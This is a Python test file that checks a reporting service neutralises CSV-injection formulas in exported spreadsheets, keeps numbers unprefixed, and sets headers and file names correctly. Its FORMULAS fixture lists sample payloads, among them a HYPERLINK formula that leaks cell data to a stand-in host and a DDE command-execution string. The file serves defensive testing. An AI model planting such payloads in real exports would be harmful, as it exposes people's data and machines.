"""Every CSV the service writes: cells a spreadsheet would run as a formula are neutralised
(OWASP "CSV injection"), numbers stay numbers, one Content-Type, and the OpenAPI document
says the reports also answer text/csv."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from coord import clock
from coord.services.sla_sweep import sweep
from tests.factories import World, make_case
from tests.web.forms import web_login

WIB = ZoneInfo("Asia/Jakarta")
# What a malicious reporter (or a careless clerk pasting from elsewhere) types as a title.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.fixture
def breached(world: World) -> Any:
    """One breached case per dangerous title (response clock breached by the sweep)."""
    clock.set_frozen(datetime(2026, 3, 17, 14, tzinfo=WIB))
    cases = [make_case(world, title=title) for title in FORMULAS]
    sweep(datetime(2026, 3, 27, 14, tzinfo=WIB))
    clock.set_frozen(datetime(2026, 3, 27, 15, tzinfo=WIB))
    yield cases
    clock.set_frozen(None)


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert sorted(r["title"] for r in rows) == sorted("'" + t for t in FORMULAS)
    for row in rows:
        assert row["case_id"].isdigit()  # numbers are not prefixed
        assert row["clock"] == "response" and row["open"] == "ya"


def assert_neutralised_for_people(rows: list[dict[str, str]]) -> None:
    """The dashboard's download: the same cells under Indonesian headers, labels for codes."""
    assert sorted(r["Perihal"] for r in rows) == sorted("'" + t for t in FORMULAS)
    for row in rows:
        assert row["Nomor kasus"].isdigit()  # numbers are not prefixed
        assert row["Target"] == "Respons pertama" and row["Terbuka"] == "ya"


def test_api_csv_neutralises_formulas(client: Any, world: World, breached: Any) -> None:
    response = client.get(
        "/api/v1/reports/breaches?format=csv", headers=world.headers("camat-a", "manager")
    )
    assert_neutralised(read_csv(response))


def test_dashboard_csv_neutralises_formulas(client: Any, world: World, breached: Any) -> None:
    assert web_login(client, "camat-a.manager").status_code == 302
    response = client.get("/web/dashboard/breaches.csv")
    assert_neutralised_for_people(read_csv(response))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_csv_content_type_is_given_once(client: Any, world: World) -> None:
    manager = world.headers("camat-a", "manager")
    for path in ("sla", "handoffs", "backlog", "ikm", "breaches"):
        response = client.get(f"/api/v1/reports/{path}?format=csv", headers=manager)
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8", path
        assert response.headers["Content-Disposition"].startswith("attachment; filename=")


def test_openapi_documents_the_csv_responses(client: Any) -> None:
    paths = client.get("/api/v1/openapi.json").json["paths"]
    for path in ("sla", "handoffs", "backlog", "ikm", "breaches"):
        content = paths[f"/api/v1/reports/{path}"]["get"]["responses"]["200"]["content"]
        assert set(content) == {"application/json", "text/csv"}, path
        assert content["text/csv"]["schema"]["type"] == "string"


def test_only_text_cells_are_neutralised(app: Any) -> None:
    from coord.exports import csv_text

    with app.test_request_context():
        text = csv_text(
            ["name", "delta", "share", "note"],
            [
                {"name": "-5", "delta": -5, "share": -0.25, "note": "biasa"},
                {"name": "@dinas", "delta": 0, "share": None, "note": "=1"},
            ],
        )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [
        ["name", "delta", "share", "note"],
        ["'-5", "-5", "-0.25", "biasa"],
        ["'@dinas", "0", "", "'=1"],
    ]


def test_dashboard_csv_name_is_plain_ascii(client: Any, world: World) -> None:
    # Full-width digits pass str.isdigit(); a non-ASCII header breaks the WSGI server.
    assert web_login(client, "camat-a.manager").status_code == 302
    # A month not written in ASCII digits, or out of range, is refused (422 naming it), so
    # it never reaches the file name.
    for month in ("２０２６-０３", "0000-01", "9999-12"):
        refused = client.get(f"/web/dashboard/sla.csv?month={month}")
        assert refused.status_code == 422, month
        assert "Content-Disposition" not in refused.headers
    march = client.get("/web/dashboard/sla.csv?month=2026-03")
    assert march.headers["Content-Disposition"] == 'attachment; filename="laporan-sla-2026-03.csv"'
